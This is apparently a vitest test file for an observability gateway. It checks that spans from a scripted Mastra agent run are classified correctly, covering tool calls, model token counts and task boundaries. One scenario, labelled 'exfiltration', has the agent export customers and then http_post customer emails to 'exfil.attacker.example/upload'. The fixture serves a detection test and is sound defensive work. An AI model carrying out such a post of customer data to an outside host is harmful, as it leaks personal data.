/**
 * Mastra's own spans (`@mastra/core` 1.71 with `@mastra/otel-exporter` 1.4; test/helpers/mastra-run.ts runs the real
 * agent and keeps the bytes it exports) as classification reads them: each `execute_tool <tool>` span a tool call
 * with its arguments and result, each `chat <model>` span one model call with its tokens, Mastra's other spans
 * (`invoke_agent`, `model_generation`, `agent_step`, `model_chunk`) no event and no second count of the model's
 * tokens, the run's root the end of its task; and the gateway's byte router agreeing with all of it.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { OtlpTraceRequest } from '../../../schemas/otlp.ts';
import { buildSpanRecords } from '../../../services/bus/kafka/publisher.ts';
import { classifyRequest } from '../../../services/core/classify.ts';
import type { ClassifiedBatch } from '../../../services/core/classify.ts';
import { counterpartyKey } from '../../../services/core/counterparties.ts';
import { decodeTraceRequest } from '../../../services/otlp/codec.ts';
import { routeTraceRequest } from '../../../services/otlp/route.ts';
import { MASTRA_TOKEN, recordMastraRun } from '../../helpers/mastra-run.ts';
import type { MastraRun } from '../../helpers/mastra-run.ts';

const EXFIL_URL = 'https://exfil.attacker.example/upload';
const TENANT = 'acme';
const COUNTERPARTY_SECRET = 'unit-counterparty-key';
const TOPICS = {
  tool_call: 'tools',
  data_access: 'data',
  privilege_change: 'privileges',
  alerts: 'alerts',
  revocations: 'revocations',
  deadLetter: 'dlq',
};

const CALLS = [
  { tool: 'export_customers', args: { limit: 3 } },
  { tool: 'send_invoice', args: { to: 'alice@customer.example', account: 'DE89370400440532013000', amount: 12.5 } },
  { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,email\nc-1,customer1@shop.example' } },
];
/** A turn of the model per call, and the answer. */
const TURNS = CALLS.length + 1;

function classifyAll(run: MastraRun): ClassifiedBatch[] {
  return run.bodies.map((body) =>
    classifyRequest(decodeTraceRequest(body, 'protobuf'), TENANT, { counterpartyKey: COUNTERPARTY_SECRET }),
  );
}

const merged = (batches: ClassifiedBatch[]): ClassifiedBatch => ({
  events: batches.flatMap((batch) => batch.events),
  boundaries: batches.flatMap((batch) => batch.boundaries),
  usages: batches.flatMap((batch) => batch.usages),
  usageOnly: batches.reduce((sum, batch) => sum + batch.usageOnly, 0),
  dropped: batches.reduce((sum, batch) => sum + batch.dropped, 0),
});

const spanNames = (run: MastraRun): string[] =>
  run.bodies.flatMap((body) =>
    decodeTraceRequest(body, 'protobuf').resourceSpans.flatMap((resource) =>
      resource.scopeSpans.flatMap((scope) => scope.spans.map((span) => span.name)),
    ),
  );

describe('a Mastra agent run, trace mode (the task type a resource attribute of the exporter)', () => {
  let run: MastraRun;
  let batch: ClassifiedBatch;
  const key = (kind: 'email' | 'account' | 'url_host', value: string): string =>
    counterpartyKey({ secret: COUNTERPARTY_SECRET, tenant: TENANT }, kind, value);

  beforeAll(async () => {
    run = await recordMastraRun([{ label: 'exfiltration', taskType: 'refund_mastra', calls: CALLS }], 'trace');
    batch = merged(classifyAll(run));
  }, 120_000);

  it('exported over OTLP/HTTP protobuf with the agent token, in one trace', () => {
    expect(run.bodies.length).toBeGreaterThan(0);
    expect(new Set(run.authorization)).toEqual(new Set([`Bearer ${MASTRA_TOKEN}`]));
    expect(run.tasks).toHaveLength(1);
    const names = spanNames(run);
    for (const name of ['invoke_agent support-agent', 'model_generation scripted-model', 'chat scripted-model'])
      expect(names).toContain(name);
  });

  it('is one tool call per planned call, in order, in the run’s trace, under the declared task type', () => {
    expect(batch.events.map((event) => [event.kind, event.name, event.tool?.name])).toEqual(
      CALLS.map(({ tool }) => ['tool_call', `execute_tool ${tool}`, tool]),
    );
    const traceId = run.tasks[0]?.traceId;
    expect(batch.events.every((event) => event.traceId === traceId && event.taskId === traceId)).toBe(true);
    expect(batch.events.every((event) => event.taskType === 'refund_mastra')).toBe(true);
  });

  it("reads each call's arguments and result: the exfiltration's target, argument keys, counterparties", () => {
    const [exported, invoice, post] = batch.events.map((event) => event.tool);
    expect(exported).toMatchObject({ argumentKeys: ['limit'], resultRecorded: true, callId: 'call_0_0' });
    expect(post).toMatchObject({ target: EXFIL_URL, argumentKeys: ['body', 'url'], resultRecorded: true });
    expect(invoice?.argumentKeys).toEqual(['account', 'amount', 'to']);
    expect(invoice?.amount).toBe(12.5);
    expect(invoice?.counterparties).toEqual(
      expect.arrayContaining([
        { kind: 'email', key: key('email', 'alice@customer.example') },
        { kind: 'account', key: key('account', 'DE89370400440532013000') },
      ]),
    );
    expect(invoice?.resultCounterparties).toEqual(
      expect.arrayContaining([{ kind: 'email', key: key('email', 'ledger@books.example') }]),
    );
  });

  it('keeps the content of the calls out of the stored attributes', () => {
    const post = batch.events.find((event) => event.tool?.name === 'http_post');
    expect(post?.attributes['gen_ai.tool.call.arguments']).toMatch(/^\[not stored: \d+ chars\]$/);
    expect(post?.attributes['gen_ai.tool.call.result']).toMatch(/^\[not stored: \d+ chars\]$/);
    expect(JSON.stringify(post?.attributes)).not.toContain('exfil.attacker.example');
  });

  it('counts one model call per turn with its tokens, and no other Mastra span as one', () => {
    expect(batch.usages.map((usage) => [usage.operation, usage.model, usage.inputTokens, usage.outputTokens])).toEqual(
      Array.from({ length: TURNS }, () => ['chat', 'scripted-model', 20, 10]),
    );
    expect(batch.usages.every((usage) => usage.provider === 'scripted')).toBe(true);
  });

  it("ends the task at the agent run's root span, which claims the agent", () => {
    expect(batch.boundaries).toHaveLength(1);
    expect(batch.boundaries[0]).toMatchObject({
      ends: true,
      taskId: run.tasks[0]?.traceId,
      taskType: 'refund_mastra',
      claims: { agentId: 'support-agent', taskType: 'refund_mastra' },
    });
  });

  it("is routed by the gateway's byte router as classification reads it", () => {
    for (const body of run.bodies) {
      const request = decodeTraceRequest(body, 'protobuf');
      const classified = classifyRequest(request, 'default');
      const routed = routeTraceRequest(body, TOPICS, 900_000);
      expect(routed).toMatchObject({
        events: classified.events.length,
        boundaries: classified.boundaries.length,
        usageOnly: classified.usageOnly,
        dropped: classified.dropped,
      });
      expect(comparable(routed.records)).toEqual(comparable(buildSpanRecords(classified, request, TOPICS, 900_000)));
    }
  });
});

describe('a Mastra agent run, wrapper mode (the user’s span around the run, handed to Mastra as its parent)', () => {
  let run: MastraRun;
  let batch: ClassifiedBatch;

  beforeAll(async () => {
    run = await recordMastraRun(
      [{ label: 'benign', taskType: 'refund_mastra', taskId: 'ticket-7', calls: CALLS.slice(0, 1) }],
      'wrapper',
    );
    batch = merged(classifyAll(run));
  }, 120_000);

  it("puts Mastra's spans in the wrapper's trace: the tool call is the wrapper's task's", () => {
    expect(batch.events.map((event) => [event.tool?.name, event.traceId])).toEqual([
      ['export_customers', run.tasks[0]?.traceId],
    ]);
  });

  it("ends the task at the wrapper span alone (Mastra's root is a local child of it)", () => {
    expect(batch.boundaries.map((boundary) => [boundary.ends, boundary.claims])).toEqual([
      [true, { taskId: 'ticket-7', taskType: 'refund_mastra' }],
    ]);
    expect(batch.usages).toHaveLength(2);
  });
});

interface RecordLike {
  topic: string;
  key: string;
  spans: number;
  value: Uint8Array;
}

function comparable(
  records: readonly RecordLike[],
): { topic: string; key: string; spans: number; value: OtlpTraceRequest }[] {
  return records
    .map(({ topic, key, spans, value }) => ({ topic, key, spans, value: decodeTraceRequest(value, 'protobuf') }))
    .sort((a, b) => `${a.topic}\u0000${a.key}`.localeCompare(`${b.topic}\u0000${b.key}`));
}
